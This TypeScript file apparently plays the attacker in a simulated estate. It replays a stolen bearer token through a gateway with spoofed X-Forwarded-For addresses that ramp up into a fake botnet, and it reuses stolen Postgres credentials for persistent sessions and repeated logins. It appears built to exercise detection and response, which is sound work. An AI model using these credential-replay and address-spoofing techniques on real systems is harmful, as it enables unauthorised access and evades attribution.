import { Socket } from 'node:net';
import { Client } from 'pg';
import { fetch } from 'undici';
import { AttackLog } from './attack-log';
import { readProcessConfig, type EstateConfigs } from './process-config';
import { serveCounters } from './serve-counters';

/** Addresses of hosting and access networks in South America and Asia: what a botnet looks like from a gateway. */
const FIRST_ADDRESS = '177.54.144.10';
const BOTNET = Array.from(
  { length: 400 },
  (_, n) => `${[177, 187, 201, 103, 113, 180][n % 6]}.${20 + (n % 60)}.${(n * 7) % 250}.${1 + (n % 250)}`,
);
const BOTNET_AFTER_MS = 1_500;
/** The rate grows by this many requests a second every tick, up to the limit. */
const TICK_MS = 100;
const MAX_PER_TICK = 12;

/** Uses what it stole, from the moment it starts: the token through the gateway, the password at the database. */
async function main(): Promise<void> {
  const config = readProcessConfig('attacker');
  const token = new AttackLog();
  const database = new AttackLog();
  const stops = [attackToken(config, token), attackDatabase(config, database)];
  await serveCounters(
    config.port,
    () => ({ [config.tokenId]: token.summary(), [config.databaseId]: database.summary() }),
    async () => {
      await Promise.all(stops.map((end) => end()));
    },
  );
}

/** One curious request, then a few by hand, then a botnet of many addresses at a rising rate. */
function attackToken(config: EstateConfigs['attacker'], log: AttackLog): () => Promise<void> {
  const begin = Date.now();
  const running = new Set<Promise<unknown>>();
  let tick = 0;
  const timer = setInterval(() => {
    tick += 1;
    const botnet = Date.now() - begin > BOTNET_AFTER_MS;
    const count = botnet
      ? Math.min(MAX_PER_TICK, Math.ceil((tick - BOTNET_AFTER_MS / TICK_MS) / 3))
      : tick % 3 === 1
        ? 1
        : 0;
    for (let i = 0; i < count; i++) {
      const address = botnet ? (BOTNET[(tick * 31 + i * 7) % BOTNET.length] ?? FIRST_ADDRESS) : FIRST_ADDRESS;
      const one: Promise<unknown> = log
        .attempt(() => useToken(config, address, botnet))
        .then(() => void running.delete(one));
      running.add(one);
    }
  }, TICK_MS);
  return async () => {
    clearInterval(timer);
    await Promise.all(running);
  };
}

async function useToken(config: EstateConfigs['attacker'], address: string, botnet: boolean): Promise<boolean> {
  const response = await fetch(`${config.gatewayUrl}/reports/${Math.floor(Math.random() * 1000)}`, {
    headers: {
      authorization: `Bearer ${config.stolenToken}`,
      'user-agent': botnet ? 'python-requests/2.31.0' : 'curl/8.5.0',
      'x-forwarded-for': address,
    },
  });
  await response.text();
  return response.ok;
}

/** Keeps one session open and uses it, and logs in again and again. */
function attackDatabase(config: EstateConfigs['attacker'], log: AttackLog): () => Promise<void> {
  let stopped = false;
  const session = (async () => {
    while (!stopped) {
      const client = databaseClient(config);
      await log.attempt(async () => {
        await client.connect();
        return true;
      });
      // The session stays open and reads for as long as it lives.
      while (
        !stopped &&
        (await log.attempt(async () => (await client.query('SELECT count(*) FROM orders')).rowCount === 1))
      )
        await pause(50);
      await client.end().catch(() => undefined);
      await pause(100);
    }
  })();
  const logins = (async () => {
    while (!stopped) {
      const client = databaseClient(config);
      await log.attempt(async () => {
        await client.connect();
        return true;
      });
      await client.end().catch(() => undefined);
      await pause(250);
    }
  })();
  return async () => {
    stopped = true;
    await Promise.all([session, logins]);
  };
}

function databaseClient(config: EstateConfigs['attacker']): Client {
  const client = new Client({
    ...config.stolenDatabase,
    application_name: 'psql',
    connectionTimeoutMillis: 2_000,
    stream: () => socketFrom(config.databaseFromAddress),
  });
  client.on('error', () => undefined);
  return client;
}

/** `pg` calls `connect(port, host)` on the socket it is given; this one leaves from another local address. */
function socketFrom(localAddress: string): Socket {
  const socket = new Socket();
  const connect = socket.connect.bind(socket) as (options: {
    port: number;
    host: string;
    localAddress: string;
  }) => Socket;
  socket.connect = ((port: number, host: string) => connect({ port, host, localAddress })) as typeof socket.connect;
  return socket;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

void main();
